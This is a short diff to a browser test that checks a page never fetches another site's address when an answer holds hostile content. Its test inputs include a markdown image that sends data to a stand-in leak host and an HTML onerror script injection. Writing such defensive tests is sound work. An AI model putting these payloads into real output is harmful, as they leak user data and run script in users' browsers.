@@ -127,6 +127,8 @@ for (const [what, options] of [
 test('no address of another site is ever asked, even if an answer wants it', async () => {
   await using opened = await openPage()
   const { page, foreign } = opened
+  // Which it says only when it is signed in.
+  await page.getByText('running here').waitFor()
   const hostile = [
     '![x](https://evil.example/leak?d=1)',
     '<img src=x onerror="window.hacked=1">',
